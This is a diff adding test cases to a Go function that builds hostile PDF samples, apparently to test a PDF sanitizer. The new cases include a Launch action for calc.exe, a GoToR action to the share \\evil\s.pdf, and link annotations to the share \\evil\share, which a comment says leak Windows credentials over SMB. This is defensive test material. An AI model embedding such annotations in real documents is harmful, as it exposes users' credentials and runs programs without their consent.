@@ -265,6 +265,16 @@ func buildHostile() []Hostile {
 		"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S /URI /URI (https://www.pom.go.id/) >> >>",
 		"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /URI /URI 13 0 R >> >>",
 		"(javascript:app.alert\\(1\\))"), "", "URI")
+	// Action types kept in objects of their own: /S 10 0 R is /Launch.
+	add("indirect /S Launch", onePage("", "/Annots [11 0 R]", "/Launch",
+		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S 10 0 R /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>"), "", "Launch")
+	add("indirect /S GoToR", onePage("", "/Annots [11 0 R]", "/GoToR",
+		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S 10 0 R /F (\\\\\\\\evil\\\\s.pdf) /D [0 /Fit] >> >>"), "", "GoToR")
+	// Links to a share: Windows readers open them over SMB and send the
+	// user's credentials to that host.
+	add("URI to a network share", onePage("", "/Annots [10 0 R 11 0 R]",
+		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>",
+		"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S 12 0 R /URI (//evil/share/x.pdf) >> >>", "/URI"), "", "URI")
 	return hs
 }
 
